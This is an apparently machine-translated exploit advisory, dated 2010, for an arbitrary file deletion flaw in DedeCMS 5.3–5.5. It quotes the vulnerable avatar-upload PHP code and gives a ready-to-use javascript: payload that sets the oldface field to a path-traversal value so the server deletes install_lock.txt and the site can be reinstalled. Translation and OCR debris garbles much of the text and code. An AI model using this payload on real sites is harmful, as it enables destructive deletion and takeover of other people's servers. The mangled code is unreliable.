dedecms5. 3 to 5. 5 arbitrary file deletion 0day-vulnerability warning-the black bar safety net

ID MYHACK58:62201025801
Type myhack58
Reporter 佚名
Modified 2010-01-02T00:00:00


Author: My5t3ry This tasteless exploits of the earliest made in the old General Forum, now online, also with 漏洞 存在 于 /member/edit_face.php 12-47 There are several documents also exist,forget,code is as follows:

if($dopost=='save') { $userdir = $cfg_user_dir.'/'.$ cfg_ml->m_id correspondence between; if(! ereg dividing the('^'.$ userdir,$oldface)) { $oldface = "; } if(is_uploaded_file($face)) { if($faceurl!=") { if( (ereg dividing(':',$faceurl) && ! eregi('^http:',$faceurl)) || ! eregi("\. (jpg|png|gif)",$faceurl)) { ShowMsg("you specify the image url there is the problem!"," -1"); exit(); } }

//Delete the old pictures to prevent the file extension is different, such as: the original is a gif, the later is jpg if($oldface!=" && file_exists($cfg_basedir.$ oldface)) { @unlink($cfg_basedir.$ oldface); }

//Upload new image $face = MemberUploads('face',$faceurl,$cfg_ml->m_id correspondence between,'image','myface',1 8 0,1 8 0); } else { $face = $oldface; } $query = "update #@__member set face = '$face' where mid='{$cfg_ml->m_id correspondence between}' "; $dsql->ExecuteNoneQuery($query); ShowMsg('successful update of the Avatar!', $backurl); exit(); }

Use poc: In the "set personal data" in the"user avatar"to upload a picture,uploaded View Source search oldface ,findits value, Here is/uploads/userup/2/myface. png then go back to upload choose the justuploaded image,do not point the upload Modify/uploads/userup/2/myface. png is the file to delete relative address,如 /dedecms/uploads/userup/2/../../../install/install_lock.txt

javascript:document. form1. oldface. value='/uploads/userup/2/../.. /../install/install_lock.txt';document. form1. submit(); ps:the 5.3 can delete thefile to re-install,5.5 will only mess deleted files.